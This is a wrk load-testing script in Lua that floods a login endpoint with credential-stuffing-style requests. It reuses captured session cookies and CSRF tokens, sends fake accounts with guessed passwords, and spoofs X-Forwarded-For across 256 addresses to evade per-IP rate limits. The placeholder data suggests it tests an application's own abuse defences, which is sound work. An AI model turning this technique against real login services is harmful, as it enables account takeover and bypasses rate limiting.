-- wrk script: a credential-stuffing flood on POST /login. Each request uses one of the
-- pre-created pending sign-ins (flow cookie + CSRF token, from FLOWS_FILE), a fresh account
-- name and, through the trusted-proxy header, one of 256 addresses of 198.51.100.0/24.
local flows = {}
local n = 0

function init(args)
  for line in io.lines(os.getenv("FLOWS_FILE")) do
    local cookie, csrf = line:match("^(%S+) (%S+)$")
    if cookie then
      flows[#flows + 1] = { cookie = cookie, csrf = csrf }
    end
  end
  wrk.headers["Host"] = os.getenv("HOSTHDR")
  wrk.headers["Origin"] = os.getenv("ORIGIN")
  wrk.headers["Content-Type"] = "application/x-www-form-urlencoded"
end

function request()
  n = n + 1
  local f = flows[(n % #flows) + 1]
  local headers = {
    ["Cookie"] = f.cookie,
    ["X-Forwarded-For"] = "198.51.100." .. (n % 256),
  }
  local body = "csrf_token=" .. f.csrf .. "&email=stuffed" .. n .. "%40example.com&password=guess-" .. n
  return wrk.format("POST", "/login", headers, body)
end

local counts = {}
function response(status, headers, body)
  counts[status] = (counts[status] or 0) + 1
end

function done(summary, latency, requests)
  io.write(string.format("FLOOD requests=%d rps=%.0f\n", summary.requests,
    summary.requests / (summary.duration / 1e6)))
end
